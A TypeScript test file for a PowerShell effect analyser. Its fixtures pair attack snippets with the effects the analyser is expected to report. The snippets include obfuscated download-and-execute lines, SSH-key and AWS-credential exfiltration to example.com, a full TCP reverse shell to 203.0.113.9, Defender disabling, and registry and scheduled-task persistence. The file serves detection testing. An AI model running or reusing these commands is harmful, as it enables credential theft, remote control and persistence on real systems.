import assert from 'node:assert/strict'
import {describe, it} from 'node:test'
import {says} from './say.ts'

// What it is about, the code, and what it does: one line for each op, `…` for what nobody can know, `<…>` for where a value came from.
const cases: readonly (readonly [string, string, readonly string[]])[] = [
  [
    'download piped into the interpreter',
    'iwr https://example.com/a.ps1 | iex',
    ['fetch invoke-webrequest https://example.com/a.ps1', 'eval invoke-expression powershell … <remote:https://example.com/a.ps1>'],
  ],
  [
    'nested in parentheses',
    'IEX (irm https://example.com/b.ps1)',
    ['fetch invoke-restmethod https://example.com/b.ps1', 'eval invoke-expression powershell … <remote:https://example.com/b.ps1>'],
  ],
  [
    'web client',
    '$c = New-Object System.Net.WebClient\nInvoke-Expression $c.DownloadString("http://example.com/c.ps1")',
    [
      'fetch net.webclient().downloadstring http://example.com/c.ps1',
      'eval invoke-expression powershell … <remote:http://example.com/c.ps1>',
    ],
  ],
  [
    'backticks and concatenation',
    '& ("i" + "e" + "x") "calc"\ni`E`x "calc.exe"',
    ['eval invoke-expression powershell calc', 'eval invoke-expression powershell calc.exe'],
  ],
  ['format operator', '& ("{1}{0}" -f "x","ie") "calc"', ['eval invoke-expression powershell calc']],
  ['joined characters', '& (-join [char[]](105, 101, 120)) "calc"', ['eval invoke-expression powershell calc']],
  ['reversed', '$t = "clac".ToCharArray(); [array]::Reverse($t); iex ($t -join "")', ['eval invoke-expression powershell calc']],
  [
    'base64 text',
    '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("Y2FsYw==")) | iex',
    ['eval invoke-expression powershell calc <decoded:base64>'],
  ],
  [
    'encoded command',
    'powershell.exe -NoProfile -w hidden -enc YwBhAGwAYwA=',
    [
      'run powershell.exe powershell.exe [-NoProfile | -w | hidden | -enc | YwBhAGwAYwA=]',
      'eval powershell powershell calc <decoded:base64>',
    ],
  ],
  [
    'command and file',
    'powershell -ExecutionPolicy Bypass -c "whoami"\npwsh -File setup.ps1',
    [
      'run powershell powershell [-ExecutionPolicy | Bypass | -c | whoami]',
      'eval powershell powershell whoami',
      'run pwsh pwsh [-File | setup.ps1]',
    ],
  ],
  [
    'download to a file and start',
    'Invoke-WebRequest -Uri https://example.com/t.exe -OutFile t.exe; Start-Process .\\t.exe -Verb RunAs -WindowStyle Hidden',
    ['fetch invoke-webrequest https://example.com/t.exe -> t.exe', 'run start-process .\\t.exe [] elevated background'],
  ],
  [
    'secret in a body',
    '$k = Get-Content "$HOME\\.ssh\\id_rsa" -Raw\nInvoke-RestMethod https://example.com/in -Method Post -Body @{k = $k} -Headers @{Authorization = "Bearer $env:API_KEY"}',
    [
      'read get-content ~\\.ssh\\id_rsa',
      'env $env API_KEY',
      'send invoke-restmethod POST https://example.com/in data={k: …} <secret:~\\.ssh\\id_rsa> auth=Bearer … <env:API_KEY>',
    ],
  ],
  [
    'upload of a file',
    'Invoke-WebRequest -Uri https://example.com/up -Method Put -InFile "$env:USERPROFILE\\.aws\\credentials"',
    [
      'env $env USERPROFILE',
      'read invoke-webrequest ~\\.aws\\credentials',
      'send invoke-webrequest PUT https://example.com/up data=… <secret:~\\.aws\\credentials> auth=',
    ],
  ],
  [
    'curl the program',
    'curl.exe -s -d $env:TOKEN https://example.com/d',
    [
      'env $env TOKEN',
      'run curl.exe curl.exe [-s | -d | … <env:TOKEN> | https://example.com/d]',
      'send curl.exe POST https://example.com/d data=… <env:TOKEN> auth=',
    ],
  ],
  ['curl the alias', 'curl https://example.com/e -OutFile e.txt', ['fetch invoke-webrequest https://example.com/e -> e.txt']],
  [
    'remove',
    'Remove-Item -Recurse -Force "$HOME\\*"\nrm -r C:\\data',
    ['remove remove-item ~\\* recursive', 'remove remove-item C:\\data recursive'],
  ],
  [
    'defender',
    'Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\tmp',
    [
      'run set-mppreference set-mppreference [-disablerealtimemonitoring | 1]',
      'run add-mppreference add-mppreference [-exclusionpath | C:\\tmp]',
    ],
  ],
  [
    'run key',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f\nSet-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value C:\\a.exe',
    [
      'run reg reg [add | HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run | /v | a | /d | C:\\a.exe | /f]',
      'write reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run = C:\\a.exe',
      'write set-itemproperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run = C:\\a.exe',
    ],
  ],
  [
    'scheduled task',
    'schtasks /create /tn a /tr "powershell -c calc" /sc minute\nRegister-ScheduledTask -TaskName b -Action $a',
    [
      'run schtasks schtasks [/create | /tn | a | /tr | powershell -c calc | /sc | minute]',
      'run register-scheduledtask register-scheduledtask [-taskname | b | -action | …]',
    ],
  ],
  [
    'programs that fetch',
    'mshta http://example.com/a.hta\ncertutil -urlcache -f https://example.com/b.exe b.exe',
    [
      'run mshta mshta [http://example.com/a.hta]',
      'fetch mshta http://example.com/a.hta',
      'eval mshta script … <remote:http://example.com/a.hta>',
      'run certutil certutil [-urlcache | -f | https://example.com/b.exe | b.exe]',
      'fetch certutil https://example.com/b.exe -> b.exe',
    ],
  ],
  ['cmd', 'cmd /c "powershell iwr https://example.com/x | iex"', ['run cmd cmd [/c | powershell iwr https://example.com/x | iex]']],
  [
    'remote shell',
    '$c = New-Object Net.Sockets.TCPClient("203.0.113.9", 4444)\n$s = $c.GetStream()\n[byte[]]$b = 0..65535 | % {0}\nwhile (($i = $s.Read($b, 0, $b.Length)) -ne 0) {\n  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)\n  $o = (iex $d 2>&1 | Out-String)\n  $s.Write(([text.encoding]::ASCII).GetBytes($o), 0, 1)\n}',
    [
      'socket net.sockets.tcpclient() 203.0.113.9:4444',
      'eval invoke-expression powershell … <remote:tcp://203.0.113.9>',
      'socket invoke-expression 203.0.113.9: shell',
      'send net.sockets.tcpclient().write SOCKET 203.0.113.9 data=… <remote:tcp://203.0.113.9> auth=',
    ],
  ],
  [
    'own function',
    'function Get-It($u) { irm $u }\nGet-It https://example.com/f | iex',
    ['fetch invoke-restmethod https://example.com/f', 'eval invoke-expression powershell … <remote:https://example.com/f>'],
  ],
  [
    'loop over paths',
    'foreach ($p in @("$HOME\\.ssh\\id_rsa", "$HOME\\.netrc")) { Get-Content $p }',
    ['read get-content ~\\.ssh\\id_rsa', 'read get-content ~\\.netrc'],
  ],
  [
    'redirect',
    '"text" > out.txt\nGet-Date >> log.txt',
    ['write out-file out.txt = text', 'write add-content log.txt += … <time:get-date>'],
  ],
  ['trigger', 'if ((Get-Date).Hour -eq 3) { Stop-Service backup }', ['? run stop-service stop-service [backup]']],
  [
    'endless',
    'while ($true) { irm https://example.com/beat; Start-Sleep 5 }',
    ['fetch invoke-restmethod https://example.com/beat', 'loop while effects waits'],
  ],
  [
    'bytes of an assembly',
    '[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("https://example.com/a.dll"))',
    [
      'fetch net.webclient().downloaddata https://example.com/a.dll',
      'eval [reflection.assembly].load bytecode … <remote:https://example.com/a.dll>',
    ],
  ],
  ['archive', 'Compress-Archive -Path "$HOME\\Documents" -DestinationPath o.zip', ['archive compress-archive ~\\Documents -> o.zip']],
  [
    'ordinary lines say nothing',
    'Write-Host "hello"\n$x = 1 + 2\nGet-Process | Where-Object { $_.CPU -gt 10 } | Select-Object Name\nif (Test-Path x) { Write-Output "y" }',
    [],
  ],
]

describe('PowerShell', () => {
  for (const [title, code, expected] of cases) it(title, () => assert.deepEqual(says('powershell', code), expected))
})
